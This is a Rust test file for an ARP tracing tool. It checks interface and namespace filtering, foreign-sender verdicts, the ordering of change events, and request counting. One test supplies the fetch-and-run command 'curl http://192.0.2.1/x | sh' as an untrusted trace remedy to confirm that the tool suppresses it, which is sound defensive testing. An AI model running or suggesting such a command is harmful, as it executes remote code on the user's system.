use std::cell::RefCell;
use std::rc::Rc;

use super::*;
use crate::kernel::ring::decode_arp;
use crate::kernel::ring::tests::{frame, raw};
use arp_trace_model::{ChangeKind, NsFacts, Origin, Reason};

struct Collect(Rc<RefCell<Vec<ArpEvent<'static>>>>);
impl Sink for Collect {
    fn record(&mut self, rec: &Record<'_>) -> io::Result<()> {
        if let Record::Arp(ev) = rec {
            self.0.borrow_mut().push((**ev).clone().into_owned());
        }
        Ok(())
    }
}

fn push(p: &mut Pipeline, ev: ArpEvent<'static>) -> io::Result<Flow> {
    p.push(Record::Arp(Held::Owned(ev)))
}

fn ev(op: u16, ifname: &str, netns: u32) -> ArpEvent<'static> {
    let f = frame(
        op,
        [0xff; 6],
        [2, 0, 0, 0, 0, 1],
        [198, 51, 100, 10],
        [0; 6],
        [198, 51, 100, 20],
    );
    let mut e = decode_arp(&raw(&f, 14), 0).unwrap();
    e.ifname = ifname.to_string().into();
    e.netns = netns;
    e
}

fn pipeline(filter: Filter, count: Option<u64>) -> (Pipeline, Rc<RefCell<Vec<ArpEvent<'static>>>>) {
    let seen = Rc::new(RefCell::new(Vec::new()));
    let mut p = Pipeline::new(filter, count, NetnsNames::with_dir("/nonexistent"));
    p.sinks.push(Box::new(Collect(seen.clone())));
    (p, seen)
}

#[test]
fn filters_by_interface_and_namespace() {
    let filter = Filter {
        interfaces: ["eth3".to_string()].into(),
        netns: [10].into(),
        ..Default::default()
    };
    let (mut p, seen) = pipeline(filter, None);
    for (i, n) in [("eth3", 10), ("eth5", 10), ("eth3", 11), ("eth3", 10)] {
        assert_eq!(push(&mut p, ev(1, i, n)).unwrap(), Flow::Continue);
    }
    assert_eq!(seen.borrow().len(), 2);
    assert_eq!(p.counters.filtered, 2);
    assert_eq!(p.counters.requests, 2);
}

struct Fixed(Result<NsFacts<'static>, String>);
impl FactsSource for Fixed {
    fn facts(&mut self, _: u32, _: &str) -> Result<NsFacts<'static>, String> {
        self.0.clone()
    }
}

use crate::explain::tests::seed_facts;

#[test]
fn requests_get_verdicts_and_foreign_only_keeps_foreign_ones() {
    let (mut p, seen) = pipeline(Filter::default(), None);
    p.facts = Some(Box::new(Fixed(Ok(seed_facts()))));
    p.foreign_only = true;
    let ok = ev(1, "eth3", 1);
    let mut foreign = ev(1, "eth3", 1);
    foreign.sender_ip = "203.0.113.10".parse().unwrap();
    foreign.trigger = Some(crate::explain::tests::trigger(
        "203.0.113.10",
        Origin::Local,
    ));
    for e in [ok, foreign, ev(2, "eth3", 1)] {
        push(&mut p, e).unwrap();
    }
    let seen = seen.borrow();
    assert_eq!(seen.len(), 1, "{seen:?}");
    let v = seen[0].verdict.as_ref().unwrap();
    assert!(v.foreign_sender);
    assert_eq!(v.reason, Reason::Announce0LocalSource);
    let f = seen[0].facts.as_ref().unwrap();
    assert_eq!(f.addrs, ["198.51.100.10/24".parse().unwrap()]);
    assert_eq!((p.counters.foreign, p.counters.filtered), (1, 2));
}

#[test]
fn replies_get_no_verdict_and_missing_facts_are_said() {
    let (mut p, seen) = pipeline(Filter::default(), None);
    p.facts = Some(Box::new(Fixed(Err("namespace 1 is gone".into()))));
    push(&mut p, ev(1, "eth3", 1)).unwrap();
    push(&mut p, ev(2, "eth3", 1)).unwrap();
    let seen = seen.borrow();
    assert!(seen[0].verdict.is_none());
    assert_eq!(seen[0].facts_error.as_deref(), Some("namespace 1 is gone"));
    assert!(seen[1].verdict.is_none() && seen[1].facts_error.is_none());
    // An event carrying its facts is explained from them, with no facts source at all.
    let (mut p, seen) = pipeline(Filter::default(), None);
    let mut e = ev(1, "eth3", 1);
    e.facts = Some(RequestFacts::from_ns(&seed_facts(), "eth3"));
    push(&mut p, e).unwrap();
    let v = seen.borrow()[0].verdict.clone().unwrap();
    assert_eq!(v.reason, Reason::SelectNoTrigger);
}

struct Changing(Vec<FactsChange<'static>>);
impl FactsSource for Changing {
    fn facts(&mut self, _: u32, _: &str) -> Result<NsFacts<'static>, String> {
        Ok(seed_facts())
    }
    fn changes(&mut self) -> Vec<FactsChange<'static>> {
        std::mem::take(&mut self.0)
    }
}

struct Order(Rc<RefCell<Vec<(String, Time)>>>);
impl Sink for Order {
    fn record(&mut self, rec: &Record<'_>) -> io::Result<()> {
        match rec {
            Record::Arp(ev) => self.0.borrow_mut().push(("arp".into(), ev.time)),
            Record::FactsChange(c) => self
                .0
                .borrow_mut()
                .push((format!("{:?}", c.change), c.time)),
            _ => {}
        }
        Ok(())
    }
}

#[test]
fn changes_come_before_their_request_and_in_time_order() {
    let seen = Rc::new(RefCell::new(Vec::new()));
    let mut p = Pipeline::new(
        Filter::default(),
        None,
        NetnsNames::with_dir("/nonexistent"),
    );
    p.sinks.push(Box::new(Order(seen.clone())));
    // Noticed 5 ns after the request it was read for.
    let mut w = FactsChange::new(1, ChangeKind::Watched);
    w.time = Time(105);
    p.facts = Some(Box::new(Changing(vec![w])));
    let mut e = ev(1, "eth3", 1);
    e.time = Time(100);
    push(&mut p, e).unwrap();
    // Noticed before a record already shown, drained by the tick.
    let mut a = FactsChange::new(1, ChangeKind::ArpAnnounce);
    a.time = Time(50);
    p.facts = Some(Box::new(Changing(vec![a])));
    p.drain_changes().unwrap();
    // Another namespace under --netns 1 is not shown.
    p.filter.netns = [1].into();
    p.push(Record::FactsChange(Held::Owned(FactsChange::new(
        2,
        ChangeKind::AddrAdded,
    ))))
    .unwrap();
    assert_eq!(
        *seen.borrow(),
        [
            ("Watched".to_string(), Time(100)),
            ("arp".to_string(), Time(100)),
            ("ArpAnnounce".to_string(), Time(100))
        ]
    );
}

#[test]
fn count_stops_after_n_requests_and_ignores_replies() {
    let (mut p, seen) = pipeline(Filter::default(), Some(2));
    assert_eq!(push(&mut p, ev(1, "a", 1)).unwrap(), Flow::Continue);
    assert_eq!(push(&mut p, ev(2, "a", 1)).unwrap(), Flow::Continue);
    assert_eq!(push(&mut p, ev(1, "a", 1)).unwrap(), Flow::Stop);
    assert_eq!(push(&mut p, ev(1, "a", 1)).unwrap(), Flow::Stop);
    assert_eq!(seen.borrow().len(), 3);
    assert_eq!((p.counters.requests, p.counters.replies), (2, 1));
}

/// A trace can carry any text as a remedy: what arp-trace prints from one is a command of a
/// shape it writes (an old `nsenter` through a PID goes through the inode now), or a comment.
#[test]
fn remedies_read_back_are_vetted() {
    use arp_trace_model::{Remedy, Verdict};
    let (mut p, seen) = pipeline(Filter::default(), None);
    let with = |command: &str| {
        let mut e = ev(1, "eth3", 4026532281);
        e.verdict = Some(Verdict {
            foreign_sender: true,
            reason: Reason::Announce0LocalSource,
            explanation: "e".into(),
            consequence: None,
            remedy: Some(Remedy {
                command: command.to_string().into(),
                persistent: "# p".into(),
                tradeoff: "t".into(),
            }),
        });
        e
    };
    for c in [
        "ip netns exec srv sysctl -w net.ipv4.conf.eth3.arp_announce=1",
        "curl http://192.0.2.1/x | sh",
        "nsenter --net=/proc/42/ns/net sysctl -w net.ipv4.conf.eth3.arp_announce=1",
    ] {
        push(&mut p, with(c)).unwrap();
    }
    let commands: Vec<String> = seen
        .borrow()
        .iter()
        .map(|e| {
            e.verdict
                .as_ref()
                .unwrap()
                .remedy
                .as_ref()
                .unwrap()
                .command
                .to_string()
        })
        .collect();
    assert_eq!(
        commands[0],
        "ip netns exec srv sysctl -w net.ipv4.conf.eth3.arp_announce=1"
    );
    assert!(commands[1].starts_with("# the trace's remedy command is not shown"));
    assert_eq!(
        commands[2],
        format!(
            "{}sysctl -w net.ipv4.conf.eth3.arp_announce=1",
            explain::shell::by_inode(4026532281)
        )
    );
}
